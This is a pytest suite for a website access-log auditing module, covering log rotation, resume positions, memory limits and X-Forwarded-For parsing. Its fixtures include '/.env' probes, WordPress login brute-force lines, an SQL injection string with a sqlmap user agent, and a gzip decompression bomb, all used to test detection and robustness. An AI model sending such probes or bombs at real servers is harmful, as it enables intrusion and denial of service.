    for name in ("access.log-20261204.xz", "access.log-20261205", "access.log-20261203.bz2"):
        (tmp_path / name).write_text("")
    assert [(Path(f).name, k) for f, k in weblog.rotated(str(tmp_path / "access.log"))][:3] == [
        ("access.log-20261205", ""), ("access.log-20261204.xz", "xz"),
        ("access.log-20261203.bz2", "bz2")]


def test_a_name_only_like_a_rotated_copy_is_none(tmp_path):
    """A name the site's account can make in its log folder that ends like a rotated
    copy's but is not one: a newline after the number (a `$` would match before it) or
    another script's digits (int() reads them) is never read as a copy."""
    for name in ("access.log.1\n", "access.log.2.gz\n", "access.log-20261205\n",
                 "access.log.\u0663", "access.log.1", "access.log\n.1"):
        (tmp_path / name).write_text("")
    assert weblog.rotated(str(tmp_path / "access.log")) == [(str(tmp_path / "access.log.1"), "")]


def test_an_overlong_line_is_malformed_and_memory_stays_bounded(tmp_path):
    """A crash's block of NUL bytes (here 40 MiB without a newline) before a request."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    with open(log, "wb") as handle:
        handle.write(lines(5, 1).encode() + b"\0" * (40 << 20) + lines(6, 2).encode())
    tracemalloc.start()
    try:
        result = audit(log, state)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # The request written after the NUL bytes is still read.
    assert (result["requests"], result["malformed"]) == (5 + 6, 0)
    assert peak < 24 << 20, peak  # not the 40 MiB "line"


def test_lines_with_bytes_that_are_no_utf8_or_nul_bytes_are_counted_and_shown(tmp_path):
    """The web account writes its own log: a client, a path and a user agent in bytes
    that are no UTF-8, with NUL bytes, and a line of NUL bytes alone. Each request is
    counted, the NUL line is malformed, and the result (a sample line too) is text JSON
    can hold, a byte that was no UTF-8 as its escape (\\xff, as nginx writes one: the
    evidence keeps the byte, where U+FFFD lost it), a control character as it is (the
    runner shows it as an escape)."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_bytes(
        b'36.1.\xff1.1 - - [30/Nov/2026:08:00:00 +0700] "GET /.env\x00\xfe HTTP/1.1" 404 5 '
        b'"-" "Mozilla\xc3\x28\x00"\n' + b"\0" * 100 + b"\n"
        + lines(2, 9).encode())
    result = audit(log, state)
    assert (result["requests"], result["malformed"]) == (3, 1)
    [finding] = result["findings"]
    assert finding["category"] == "restricted_file"
    assert finding["clients"] == [{"client": "36.1.\\xff1.1", "count": 1}]
    assert finding["samples"][0] == ('36.1.\\xff1.1 - - [30/Nov/2026:08:00:00 +0700] '
                                     '"GET /.env\x00\\xfe HTTP/1.1" 404 5 "-" "Mozilla\\xc3(\x00"')
    assert json.loads(json.dumps(result)) == result


def test_long_distinct_fields_are_not_all_remembered(tmp_path):
    """Each distinct target, user agent and referer was remembered with its verdict, up
    to 65536 of each: a client sending requests of 8 KiB fields (what nginx and Apache
    take by default) made each process hold 1.5 GiB. A long field is judged each time
    (one path here: the top paths are a counter of their own)."""
    log = tmp_path / "access.log"
    with open(log, "w") as handle:
        for i in range(1000):
            pad = f"{i:08d}" * 1000
            handle.write(line("45.1.1.1", "30/Nov/2026:09:00:00", f"GET /?q={pad} HTTP/1.1",
                              agent=f"Mozilla/{pad}", referer=f"http://x/{pad}"))
    tracemalloc.start()
    try:
        result = audit(log, tmp_path / "state")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result["requests"] == 1000
    assert peak < 24 << 20, peak  # not the 24 MB of fields besides the blocks read


def test_paths_and_clients_a_line_long_are_counted_by_what_the_result_shows(tmp_path):
    """The top paths and clients were counted with their whole text: 5000 of each
    (top_limit) a line long (1 MiB), written by the web server's account, which owns its
    log, held 10 GiB. They are counted by the text the result shows (at most 2000
    characters)."""
    log = tmp_path / "access.log"
    with open(log, "w") as handle:
        for i in range(100):
            pad = f"{i:08d}" * (1 << 15)  # 256 KiB
            handle.write(line(f"45.1.1.1{pad}", "30/Nov/2026:09:00:00", f"GET /{pad} HTTP/1.1"))
    tracemalloc.start()
    try:
        result = audit(log, tmp_path / "state")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (result["requests"], len(result["top_paths"][0]["path"])) == (100, 2000)
    assert peak < 24 << 20, peak  # not the 2 x 25 MiB of paths and clients


def test_a_compressed_bomb_is_inflated_a_block_at_a_time(tmp_path):
    """A rotated log of 130 KiB that inflates to 128 MiB of NUL bytes (a compromised web
    server's, or logrotate's copy of a sparse log): each 1 MiB read was inflated whole, up
    to 1 GiB in memory at once per process; now memory stays bounded. The lines after it
    (a second gzip member) are still read."""
    log = tmp_path / "access.log"
    log.write_text(lines(2, 3))
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(128)) + packer.flush()
    (tmp_path / "access.log.1.gz").write_bytes(bomb + gzip.compress(lines(4, 2).encode()))
    tracemalloc.start()
    try:
        result = audit(log, tmp_path / "state")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result["requests"] == 4 + 2
    assert result["bytes"] > 128 << 20
    assert peak < 32 << 20, peak


def test_a_line_that_is_not_a_log_line_is_read_in_linear_time(tmp_path):
    """Many '[' and no ']' made the fallback pattern search again from each '[' (an
    8 KiB line 169 ms, 64 KiB 12 s); a line of 1 MiB is now one malformed line."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_bytes(b"10.0.0.1 x " + b"[" * (weblog.MAX_LINE - 20) + b"\n" + lines(3, 1).encode())

    with within(20, "reading the line"):
        result = audit(log, state)
    assert (result["requests"], result["malformed"]) == (3, 1)


def test_a_log_that_takes_too_long_is_stopped_and_its_position_kept(tmp_path):
    """The web server's account owns its log: one truncate() makes it a sparse file of
    terabytes of NUL bytes, costing no disk, that took hours to read (8 GiB: 51 s on
    every CPU). The audit is stopped at its time limit with one line; the position
    is not moved, and the next run reads from it again."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(3, 1))
    args = {"paths": [str(log)], "state_dir": str(state)}
    rc, first = run_module("website_log_audit", tmp_path, args)
    assert rc == 0 and first["audit"]["requests"] == 3
    kept = {f.name: f.read_bytes() for f in state.iterdir()}
    with open(log, "r+b") as handle:
        handle.truncate(64 << 30)
        handle.seek(0, os.SEEK_END)
        handle.write(lines(1, 2).encode())
    started = time.monotonic()
    rc, stopped = run_module("website_log_audit", tmp_path, {**args, "timeout": 1})
    assert time.monotonic() - started < 30
    assert rc != 0 and stopped["msg"].startswith(
        f"access log {log}: not read within 1 s, stopped")
    assert {f.name: f.read_bytes() for f in state.iterdir()} == kept


def test_copytruncate(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(2, 2))
    shutil.copyfile(log, tmp_path / "access.log.1")
    with open(log, "w") as handle:  # same inode, truncated
        handle.write(lines(3, 3, "36.6.6.6"))
    result = audit(log, state)
    assert result["requests"] == 5


@pytest.mark.parametrize("rotation", ["copytruncate", "create-compress", "create", "none"])
def test_a_log_empty_at_the_last_run_then_rotated(tmp_path, rotation):
    """The last run found the live log empty (no first line to recognise it by); lines
    written after it and rotated since (copytruncate keeps the inode; compress without
    delaycompress leaves no plain copy) are read, and the older copies are not again."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    (tmp_path / "access.log.1").write_text(lines(4, 1, "36.1.1.1"))
    log.write_text("")
    assert audit(log, state)["requests"] == 4
    with open(log, "a") as handle:
        handle.write(lines(5, 2))
    if rotation != "none":
        with gzip.open(tmp_path / "access.log.2.gz", "wb") as handle:
            handle.write((tmp_path / "access.log.1").read_bytes())
        (tmp_path / "access.log.1").unlink()
    if rotation == "copytruncate":
        shutil.copyfile(log, tmp_path / "access.log.1")
        with open(log, "w") as handle:  # same inode, truncated
            handle.write(lines(2, 3, "36.6.6.6"))
    elif rotation.startswith("create"):
        if rotation == "create-compress":
            with gzip.open(tmp_path / "access.log.1.gz", "wb") as handle:
                handle.write(log.read_bytes())
            log.unlink()
        else:
            os.rename(log, tmp_path / "access.log.1")
        log.write_text(lines(2, 3, "36.6.6.6"))
    result = audit(log, state)
    assert result["requests"] == (5 if rotation == "none" else 7)
    assert audit(log, state)["requests"] == 0


def test_log_replaced_beyond_rotation_reads_everything(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    log.unlink()
    log.write_text(lines(3, 5, "36.7.7.7"))
    result = audit(log, state)
    assert (result["requests"], result["resumed"][str(log)]) == (3, "lost")


def test_a_log_cut_in_place_without_a_rotated_copy_is_lost(tmp_path):
    """The web server's account owns its log: it rewrites the file in place without its
    own lines (same first line, shorter than where the last run stopped)."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    kept = log.read_text().splitlines(keepends=True)[:4]
    with open(log, "w") as handle:  # same inode
        handle.write("".join(kept))
    result = audit(log, state)
    assert (result["requests"], result["resumed"][str(log)]) == (4, "lost")


@pytest.mark.parametrize("rotated", [False, True], ids=["live", "rotated-gzip"])
def test_a_log_cut_below_the_position_and_written_again_resumes_at_a_line_start(
        tmp_path, rotated):
    """The log was cut below the position the last run kept (same first line) and written
    past it again: that position now falls inside a line. The line's rest is skipped and
    counted, never read as a request (nor as a malformed line); the next lines are read,
    in the live log or in the rotated copy that has the position."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    offset = log.stat().st_size
    kept = log.read_text().splitlines(keepends=True)[:4]
    longer = [line("36.9.9.9", f"30/Nov/2026:05:00:{i:02d}", f"GET /berita/{'x' * 7 * i} HTTP/1.1")
              for i in range(12)]
    text = "".join(kept + longer).encode()
    assert text[offset - 1:offset] != b"\n"  # the position falls inside a line
    whole = text[offset:].count(b"\n") - 1  # the lines after the one cut
    if rotated:
        (tmp_path / "access.log.1.gz").write_bytes(gzip.compress(text))
        log.write_text(lines(2, 6, "36.6.6.6"))
    else:
        with open(log, "wb") as handle:  # same inode
            handle.write(text)
    result = audit(log, state)
    assert result["resumed"][str(log)] == ("rotated:" + str(tmp_path / "access.log.1.gz")
                                           if rotated else "cut")
    assert (result["requests"], result["malformed"], result["skipped"]) == \
        (whole + 2 * rotated, 0, 1)


def test_a_log_cut_below_the_position_leaving_a_line_start_there_is_told(tmp_path):
    """The log was cut below the kept position and written past it again with a line
    ending exactly there: nothing was skipped, so the cut went untold, the lines written
    between the cut and the position unread. The line that ended at the position is no
    longer there: resumed says cut, and the lines after it are read."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    offset = log.stat().st_size
    kept = "".join(log.read_text().splitlines(keepends=True)[:4])
    filler = line("36.9.9.9", "30/Nov/2026:05:00:00", "GET /x HTTP/1.1")
    filler = filler.replace("/x", "/x" + "y" * (offset - len(kept) - len(filler)))
    log.write_text(kept + filler + lines(3, 6, "36.6.6.6"))
    assert len(kept + filler) == offset
    result = audit(log, state)
    assert (result["resumed"][str(log)], result["requests"], result["skipped"]) == ("cut", 3, 0)
    with open(log, "a") as handle:
        handle.write(lines(2, 7))
    again = audit(log, state)
    assert (again["resumed"][str(log)], again["requests"]) == ("live", 2)


def test_a_rotated_copy_cut_below_the_position_is_told(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    text = log.read_text()
    (tmp_path / "access.log.1").write_text(text[:len(text) // 2] + lines(8, 5, "36.9.9.9"))
    log.write_text(lines(2, 6, "36.6.6.6"))
    result = audit(log, state)
    assert result["resumed"][str(log)] == f"cut:{tmp_path / 'access.log.1'}"


def test_a_copytruncate_copy_taken_before_the_last_run_is_told_as_a_cut(tmp_path):
    """logrotate's copytruncate copied the log, the last run read past the copy's end,
    then logrotate cut the log: every line was read, yet the copy ends before the
    position, which is all a copy of a log cut below it and written again shows (the
    state keeps no record of the lines before the position). resumed says cut, as the
    module's description says."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(numbered(0, 10))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(numbered(10, 5))
    shutil.copyfile(log, tmp_path / "access.log.1")
    with open(log, "a") as handle:
        handle.write(numbered(15, 3))
    assert audit(log, state)["requests"] == 8
    log.write_text(numbered(18, 2))
    result = audit(log, state)
    assert (result["requests"], result["resumed"][str(log)]) == (
        2, f"cut:{tmp_path / 'access.log.1'}")


def numbered(first: int, count: int) -> str:
    """Lines each asking its own path, /n<k>: a line read twice counts its path twice."""
    return "".join(line("36.2.2.2", f"30/Nov/2026:12:{k // 60 % 60:02d}:{k % 60:02d}",
                        f"GET /n{k} HTTP/1.1") for k in range(first, first + count))


PACK = {"gz": gzip.compress, "xz": lzma.compress, "bz2": bz2.compress}


def packed(name: str, data: bytes) -> bytes:
    """``data`` compressed as the extension of ``name`` tells (as it is when none)."""
    pack = PACK.get(name.rsplit(".", 1)[-1])
    return pack(data) if pack else data


@pytest.mark.parametrize(("rotation", "copy"), [
    ("delaycompress", "access.log.1"), ("compress", "access.log.1.gz"),
    ("copytruncate", "access.log.1"), ("compress", "access.log.1.xz"),
    ("compress", "access.log.1.bz2"), ("delaycompress", "access.log-20261205"),
    ("compress", "access.log-20261205.gz"), ("compress", "access.log-20261205.xz"),
    ("compress", "access.log-1796428800.bz2")])
def test_every_line_around_a_rotation_is_read_once(tmp_path, rotation, copy):
    """40 lines read, 7 more written to the old log, then rotated (logrotate's default
    delaycompress keeps .1 plain; compress without it gzips .1.gz at once, or with xz or
    bzip2 as compresscmd .1.xz, .1.bz2; dateext names it by the date or, with -%s, the
    epoch; copytruncate keeps the live log's inode) and 5 written to the new one: the 7
    are read from the rotated copy known by its first line, then the new log from its
    start, each line once; the next run reads nothing again. An xz or bzip2 copy was not
    found: the position was lost and every file read again."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(numbered(0, 40))
    assert audit(log, state)["requests"] == 40
    with open(log, "a") as handle:
        handle.write(numbered(40, 7))
    if rotation == "delaycompress":
        os.rename(log, tmp_path / copy)
    elif rotation == "compress":
        (tmp_path / copy).write_bytes(packed(copy, log.read_bytes()))
        log.unlink()
    else:
        shutil.copyfile(log, tmp_path / copy)
    log.write_text(numbered(47, 5))  # copytruncate: the same inode, truncated
    result = audit(log, state, top=100)
    assert result["resumed"][str(log)] == f"rotated:{tmp_path / copy}"
    assert {p["path"]: p["count"] for p in result["top_paths"]} == {
        f"/n{k}": 1 for k in range(40, 52)}
    again = audit(log, state)
    assert (again["requests"], again["resumed"][str(log)]) == (0, "live")


def test_a_position_at_a_line_start_skips_nothing(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(3, 2))
    result = audit(log, state, workers=2)
    assert (result["requests"], result["malformed"], result["skipped"]) == (3, 0, 0)


@pytest.mark.parametrize("rotation", ["rename", "copytruncate"])
def test_a_log_rotated_while_the_audit_reads_it_fails_and_keeps_the_position(tmp_path,
                                                                            rotation):
    """logrotate renaming the live log (or cutting it, copytruncate) after the plan and
    before its range was read: the range read in the new file found nothing, and the next
    run resumed in the rotated copy past the lines never read. The audit fails naming the
    log (another file now, or a shorter one), its positions kept, and the next run reads
    them."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(10, 2))
    planned = weblog.plan(str(log), weblog.read_state(weblog.state_path(str(state), str(log))))
    if rotation == "rename":
        log.rename(tmp_path / "access.log.1")
    else:
        shutil.copyfile(log, tmp_path / "access.log.1")
    log.write_text(lines(1, 3))
    cause = "another file since" if rotation == "rename" else "shorter than when"
    with pytest.raises(weblog.LogError, match=rf"access\.log: {cause} the audit began"):
        weblog.audit(planned.tasks, workers=1)
    assert audit(log, state)["requests"] == 10 + 1


def _write_copy(path: Path, text: str, compressed: str) -> None:
    if compressed:
        with gzip.open(path, "wt") as handle:
            handle.write(text)
    else:
        path.write_text(text)


@pytest.mark.parametrize("compressed", ["", "gz"])
def test_a_rotated_copy_replaced_while_the_audit_reads_it_is_not_counted_as_planned(
        tmp_path, compressed):
    """logrotate renaming access.log.1 to .2 and the next file into .1's place after the
    plan: the task read the new .1 (lines the plan gave another task, or none planned
    for it) as the copy planned, up to the planned size, and counted them silently."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    suffix = ".gz" if compressed else ""
    copy = tmp_path / f"access.log.1{suffix}"
    _write_copy(copy, lines(3, 1), compressed)
    log.write_text(lines(20, 2))
    planned = weblog.plan(str(log), None)
    copy.rename(tmp_path / f"access.log.2{suffix}")
    _write_copy(copy, lines(20, 2), compressed)
    log.write_text(lines(1, 3))
    with pytest.raises(weblog.LogError, match=re.escape(
            f"{copy}: another file since the audit began (rotated while it was read): the "
            "read positions are kept, run it again")):
        weblog.audit(planned.tasks[:1], workers=1)
    assert audit(log, state)["requests"] == 3 + 20 + 1


def test_a_rotated_copy_removed_while_the_audit_reads_it_is_one_line(tmp_path):
    """logrotate removing the oldest copy (rotate N) after the plan: a FileNotFoundError
    left the audit, a compressed copy's size being read to share the work."""
    log = tmp_path / "access.log"
    oldest = tmp_path / "access.log.2.gz"
    _write_copy(oldest, lines(3, 1), "gz")
    (tmp_path / "access.log.1").write_text(lines(3, 2))
    log.write_text(lines(3, 3))
    planned = weblog.plan(str(log), None)
    oldest.unlink()
    with pytest.raises(weblog.LogError, match=re.escape(
            f"{oldest}: gone since the audit began (rotated while it was read)")):
        weblog.audit(planned.tasks, workers=1)


def test_a_live_log_rotated_with_nothing_new_to_read_is_no_failure(tmp_path):
    """The live log renamed after a plan that reads nothing of it (no new line): the
    next run reads the copy from the position kept, each line once."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    planned = weblog.plan(str(log), weblog.read_state(weblog.state_path(str(state), str(log))))
    log.rename(tmp_path / "access.log.1")
    log.write_text(lines(4, 2))
    assert weblog.audit(planned.tasks, workers=1).requests == 0
    assert audit(log, state)["requests"] == 4


def test_first_run_reads_rotated_files_oldest_first(tmp_path):
    log = tmp_path / "access.log"
    with gzip.open(tmp_path / "access.log.2.gz", "wt") as handle:
        handle.write(lines(2, 1))
    (tmp_path / "access.log.1").write_text(lines(3, 2))
    log.write_text(lines(4, 3))
    result = audit(log, tmp_path / "state")
    assert result["requests"] == 9
    assert [Path(f["path"]).name for f in result["files"]] == [
        "access.log.2.gz", "access.log.1", "access.log"]
    assert result["first_seen"] == "2026-11-30T01:00:00+07:00"
    assert result["last_seen"] == "2026-11-30T03:00:03+07:00"


def test_parallel_equals_serial(tmp_path, monkeypatch):
    log = tmp_path / "access.log"
    with open(log, "w") as handle:
        for _ in range(300):
            handle.write(LOG)
    monkeypatch.setattr(weblog, "PARALLEL_BYTES", 1)
    task = [weblog.Task(str(log), 0, log.stat().st_size)]
    serial = weblog.summary(weblog.audit(task, workers=1), top=5, bruteforce_threshold=20)
    monkeypatch.setattr(weblog, "TASK_BYTES", 64 * 1024)
    monkeypatch.setattr(weblog, "BLOCK", 16 * 1024)
    parallel = weblog.summary(weblog.audit(task, workers=2), top=5, bruteforce_threshold=20)
    assert len(weblog.split_plain(str(log), 0, log.stat().st_size, 64 * 1024)) > 4
    assert parallel == serial
    assert serial["requests"] == 300 * (len(NORMAL) + len(PROBES) + len(BRUTE))


def test_top_counter_is_bounded_and_keeps_heavy_hitters():
    counter = weblog.TopCounter(100)
    for i in range(10000):
        counter.counts[f"rare{i}"] = 1
        counter.counts["heavy"] = counter.counts.get("heavy", 0) + 1
        if len(counter.counts) > counter.limit:
            counter.prune()
    assert len(counter.counts) <= 101
    assert counter.top(1) == [("heavy", 10000)]
    assert counter.dropped == 1


def test_unique_visitor_estimate_beyond_exact_counting():
    tally = weblog.Tally()
    for i in range(300_000):
        tally.visitors.add(hash((b"10.0.%d" % i, b"30/Nov/2026", b"ua")))
        if len(tally.visitors) > weblog.VISITOR_EXACT:
            tally.prune()
    count, exact = tally.unique_visitors()
    assert not exact
    assert abs(count - 300_000) / 300_000 < 0.03


def test_module_missing_log_fails_with_one_line(tmp_path):
    rc, result = run_module("website_log_audit", tmp_path,
                            {"paths": [str(tmp_path / "nope.log")],
                             "state_dir": str(tmp_path / "state")})
    assert rc != 0 and result["failed"]
    assert result["msg"] == f"access log {tmp_path / 'nope.log'}: No such file or directory"


def forwarded(ip: str, xff: str, request: str = "POST /wp-login.php HTTP/1.1", i: int = 0) -> str:
    """A line of nginx's documented "main" format: combined, then X-Forwarded-For."""
    return line(ip, f"30/Nov/2026:11:{i // 60:02d}:{i % 60:02d}", request)[:-1] + f' "{xff}"\n'


def test_a_request_through_a_trusted_proxy_is_counted_for_its_forwarded_client(tmp_path):
    """Behind a reverse proxy every visitor is logged as the proxy: 25 login attempts of
    one attacker and the visitors' pages were all 10.0.0.5's. Listed as a trusted proxy,
    its requests are the client X-Forwarded-For names, read from the right past trusted
    proxies as nginx's real_ip_recursive does; a header from an unlisted address, or a
    value that is no address, names no one."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text("".join(
        [forwarded("10.0.0.5", "203.0.113.7", i=i) for i in range(25)]
        + [forwarded("10.0.0.5", "198.51.100.1, 10.0.0.9", "GET / HTTP/1.1"),
           forwarded("10.0.0.5", "garbage, 198.51.100.2", "GET / HTTP/1.1"),
           forwarded("10.0.0.5", "198.51.100.3, garbage", "GET / HTTP/1.1"),
           forwarded("10.0.0.5", "-", "GET / HTTP/1.1"),
           forwarded("45.1.1.1", "198.51.100.4", "GET / HTTP/1.1"),
           line("10.0.0.5", "30/Nov/2026:11:30:00", "GET / HTTP/1.1")]))
    plain = audit(log, state, check=True)
    assert [c["client"] for c in plain["top_clients"]] == ["10.0.0.5", "45.1.1.1"]
    brute = next(f for f in plain["findings"] if f["category"] == "wp_bruteforce")
    assert brute["clients"] == [{"client": "10.0.0.5", "count": 25}]
    result = audit(log, state, trusted_proxies=["10.0.0.0/24", "10.0.0.9"])
    assert {c["client"]: c["count"] for c in result["top_clients"]} == {
        "203.0.113.7": 25, "198.51.100.1": 1, "198.51.100.2": 1, "10.0.0.5": 3,
        "45.1.1.1": 1}
    brute = next(f for f in result["findings"] if f["category"] == "wp_bruteforce")
    assert brute["clients"] == [{"client": "203.0.113.7", "count": 25}]



def test_a_proxy_logged_as_an_ipv4_mapped_address_is_its_ipv4_network_s(tmp_path):
    """A web server listening on one dual-stack socket logs an IPv4 proxy as
    ::ffff:10.0.0.5; nginx's set_real_ip_from and Apache's RemoteIPTrustedProxy match it
    by its IPv4 address. Listed as 10.0.0.0/24 it named no client: every visitor stayed
    the proxy, and behind_proxy kept asking to list it. IPv6 proxies are read too."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text("".join(
        [forwarded("::ffff:10.0.0.5", "203.0.113.7", i=i) for i in range(25)]
        + [forwarded("2001:db8::5", "2001:db8:1::7, 2001:db8::9", "GET / HTTP/1.1"),
           forwarded("2001:db9::5", "198.51.100.9", "GET / HTTP/1.1")]))
    result = audit(log, state, trusted_proxies=["10.0.0.0/24", "2001:db8::/112"])
    assert {c["client"]: c["count"] for c in result["top_clients"]} == {
        "203.0.113.7": 25, "2001:db8:1::7": 1, "2001:db9::5": 1}
    mapped = audit(log, tmp_path / "other", trusted_proxies=["::ffff:10.0.0.0/120"])
    assert mapped["top_clients"][0] == {"client": "203.0.113.7", "count": 25}


@pytest.mark.parametrize(("xff", "client"), [
    ("203.0.113.7:51234", "203.0.113.7"),
    ("[2001:db8::1]:443", "2001:db8::1"),
    ("203.0.113.7:51234, 10.0.0.9:8080", "203.0.113.7"),
    ("[2001:db8::1]:443, [2001:db8::9]:1", "2001:db8::1"),
    ("198.51.100.1, 203.0.113.7:65535", "203.0.113.7"),
    # what nginx's ngx_parse_addr_port refuses ends the walk: no port, port 0 or past
    # 65535, a sign, a bare [IPv6], a name
    ("198.51.100.1, 10.0.0.9:0", "10.0.0.5"),
    ("198.51.100.1, 10.0.0.9:65536", "10.0.0.5"),
    ("198.51.100.1, 10.0.0.9:", "10.0.0.5"),
    ("198.51.100.1, 10.0.0.9:+80", "10.0.0.5"),
    ("198.51.100.1, [2001:db8::1]", "10.0.0.5"),
    ("198.51.100.1, proxy.lan:80", "10.0.0.5"),
    ("203.0.113.7:" + "9" * 5000, "10.0.0.5"),
])
def test_a_forwarded_hop_with_a_port_is_its_address(tmp_path, xff, client):
    """A proxy that writes the client's port (Azure's, some CDNs': 203.0.113.7:51234,
    [2001:db8::1]:443) ended the walk: every visitor stayed the proxy. nginx's realip
    reads each hop with ngx_parse_addr_port, an address with or without a port of
    1-65535 ('[...]' around IPv6), and so does the audit."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(forwarded("10.0.0.5", xff, "GET / HTTP/1.1"))
    result = audit(log, state, trusted_proxies=["10.0.0.0/24", "2001:db8::9"])
    assert result["top_clients"] == [{"client": client, "count": 1}]


@pytest.mark.parametrize(("xff", "client"), [
    ("203.0.113.7 198.51.100.2", "198.51.100.2"),
    ("203.0.113.7 10.0.0.9", "203.0.113.7"),
    ("203.0.113.7,10.0.0.9", "203.0.113.7"),
    ("203.0.113.7 ,, 10.0.0.9 ,", "203.0.113.7"),
    ("garbage 10.0.0.9", "10.0.0.9"),
    # as nginx reads it (web_server nginx, the default); Apache's mod_remoteip keeps
    # 10.0.0.1 (test_apache_reads_forwarded_hops_as_mod_remoteip_does)
    ("198.51.100.7 10.0.0.2, 10.0.0.1", "198.51.100.7"),
])
def test_forwarded_hops_are_separated_by_spaces_as_by_commas(tmp_path, xff, client):
    """A proxy that writes its hops with spaces only ('203.0.113.7 198.51.100.2') made
    the whole field one value that is no address: every visitor stayed the proxy.
    nginx's realip (ngx_http_get_forwarded_addr_internal) ends a hop at a space or a
    comma, a run of them one separator, and so does the audit."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(forwarded("10.0.0.5", xff, "GET / HTTP/1.1"))
    result = audit(log, state, trusted_proxies=["10.0.0.0/24"])
    assert result["top_clients"] == [{"client": client, "count": 1}]


def apache_line(client: str, i: int, request: str, xff: str | None = None,
                vhost: str | None = None, agent: str = BROWSER) -> str:
    """A line of Debian's apache2 LogFormat "combined" (%h %l %u %t \\"%r\\" %>s %O
    \\"%{Referer}i\\" \\"%{User-Agent}i\\"), "vhost_combined" with ``vhost`` (%v:%p before
    it) and \\"%{X-Forwarded-For}i\\" after it with ``xff``."""
    text = (f'{client} - - [30/Nov/2026:11:{i // 60:02d}:{i % 60:02d} +0700] "{request}" '
            f'200 3380 "-" "{agent}"')
    return (f"{vhost} " if vhost else "") + text + (f' "{xff}"' if xff is not None else "") + "\n"


@pytest.mark.parametrize(("xff", "nginx", "apache"), [
    # spaces only: two hops to nginx, one hop that is no address to mod_remoteip
    ("203.0.113.7 198.51.100.2", "198.51.100.2", "10.0.0.5"),
    ("198.51.100.7 10.0.0.2, 10.0.0.1", "198.51.100.7", "10.0.0.1"),
    # an empty hop ends mod_remoteip's walk; nginx skips it as a separator
    ("203.0.113.7,,10.0.0.9", "203.0.113.7", "10.0.0.9"),
    ("203.0.113.7,", "203.0.113.7", "10.0.0.5"),
    # a port or brackets: nginx's ngx_parse_addr_port reads them, mod_remoteip does not
    ("203.0.113.7:51234", "203.0.113.7", "10.0.0.5"),
    ("198.51.100.1, [2001:db8::1]:443", "2001:db8::1", "10.0.0.5"),
])
def test_apache_reads_forwarded_hops_as_mod_remoteip_does(tmp_path, xff, nginx, apache):
    """An Apache log was read as nginx reads X-Forwarded-For: a value of hops separated
    by spaces only, which mod_remoteip reads as one hop that is no address (keeping the
    proxy), named a client Apache never saw. With web_server apache the audit reads it as
    httpd 2.4's remoteip_modify_request: split at commas (strrchr), spaces around a hop
    trimmed, each hop an address as written, an empty or unreadable one ending the walk."""
    log = tmp_path / "access.log"
    log.write_text(apache_line("10.0.0.5", 0, "GET / HTTP/1.1", xff=xff))
    found = {server: audit(log, tmp_path / server, trusted_proxies=["10.0.0.0/24"],
                           web_server=server)["top_clients"]
             for server in ("nginx", "apache")}
    assert found == {"nginx": [{"client": nginx, "count": 1}],
                     "apache": [{"client": apache, "count": 1}]}


def test_apache_s_vhost_combined_lines_are_counted_for_their_clients(tmp_path):
    """Debian's other_vhosts_access.log is vhost_combined: "%v:%p" before the combined
    fields. Its server:port was read as the client of every request: one client, its
    brute force and probes named 'www.pn-contoh.go.id:443', the visitors none. The client
    is the field after it; a combined line whose client is IPv6 (colons, no port) or a
    unix socket is still its own client."""
    log, state = tmp_path / "other_vhosts_access.log", tmp_path / "state"
    site = "www.pn-contoh.go.id:443"
    log.write_text("".join(
        [apache_line("203.0.113.7", i, "POST /wp-login.php HTTP/1.1", vhost=site)
         for i in range(25)]
        + [apache_line("2001:db8::7", 30, "GET /.env HTTP/1.1", vhost="127.0.1.1:80"),
           apache_line("198.51.100.9", 31, 'GET /?id=1\\" OR \\"a\\"=\\"a HTTP/1.1',
                       vhost=site, agent='x\\" sqlmap/1.7'),
           apache_line("2001:db8::1", 32, "GET / HTTP/1.1"),
           apache_line("10.0.0.5", 33, "GET / HTTP/1.1", vhost=site, xff="198.51.100.3"),
           'unix: - - [30/Nov/2026:11:00:34 +0700] "GET / HTTP/1.1" 200 1 "-" "-"\n']))
    result = audit(log, state, trusted_proxies=["10.0.0.5"], web_server="apache")
    assert (result["requests"], result["malformed"]) == (30, 0)
    assert {c["client"]: c["count"] for c in result["top_clients"]} == {
        "203.0.113.7": 25, "2001:db8::7": 1, "198.51.100.9": 1, "2001:db8::1": 1,
        "198.51.100.3": 1, "unix:": 1}
